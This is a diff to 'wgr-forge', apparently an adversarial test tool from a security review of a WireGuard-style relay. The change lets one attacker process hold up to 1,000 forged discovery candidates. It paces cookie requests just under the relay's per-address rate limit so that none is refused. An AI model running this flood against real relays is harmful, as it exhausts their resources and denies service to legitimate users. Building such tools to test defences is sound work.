@@ -171,6 +171,10 @@
  * discovery candidates) as fast as the relay lets it (a fifth review, T3).
  * Either sends from FROM, one of this host's addresses, if given: one process
  * for each of an attacker's addresses (a crowd of discovery candidates, C6).
+ * NPORTS goes to 1000: each port that earned a cookie and sends again within
+ * 30 s stays a discovery candidate, so a few addresses keep thousands of them
+ * (the walk budget). Cookies are asked for at 50 a second, under the relay's
+ * 100 a second for one address, so that none is refused.
  */
 #include <arpa/inet.h>
 #include <errno.h>
@@ -1222,9 +1226,11 @@ static int late(int argc, char **argv)
 static int mac2junk(int argc, char **argv, bool named)
 {
 	struct sockaddr_storage to;
-	uint8_t pub[32], msg[1600], cookies[16][16];
+	static uint8_t cookies[1000][16];
+	static int fds[1000];
+	uint8_t pub[32], msg[1600];
 	long seconds, pps, nports, sent = 0;
-	int fds[16], with_cookie = 0;
+	int with_cookie = 0;
 	struct timespec next;
 	socklen_t len;
 
@@ -1232,15 +1238,18 @@ static int mac2junk(int argc, char **argv, bool named)
 	    (argc == 9 && parse_ep(&stage_from, argv[8], "0") != len) ||
 	    (seconds = strtol(argv[4], NULL, 10)) <= 0 || seconds > 3600 ||
 	    (pps = strtol(argv[5], NULL, 10)) <= 0 || pps > 10000 ||
-	    (nports = strtol(argv[6], NULL, 10)) <= 0 || nports > 16 ||
+	    (nports = strtol(argv[6], NULL, 10)) <= 0 || nports > 1000 ||
 	    !key_from_base64(pub, argv[7])) {
 		fprintf(stderr, "usage: wgr-forge %s ADDR PORT SECONDS(1..3600) PPS(1..10000) "
-				"NPORTS(1..16) PUBKEY [FROM, of ADDR's family]\n", argv[1]);
+				"NPORTS(1..1000) PUBKEY [FROM, of ADDR's family]\n", argv[1]);
 		return 2;
 	}
+	clock_gettime(CLOCK_MONOTONIC, &next);
 	for (long i = 0; i < nports; i++) {
 		int got = 0;
 
+		next_tick(&next, 50);
+		clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &next, NULL);
 		fds[with_cookie] = stage_socket(&to, len);
 		/* The relay answers a mac1-valid initiation without mac2 with its cookie. */
 		for (int try = 0; try < 5 && !got; try++) {
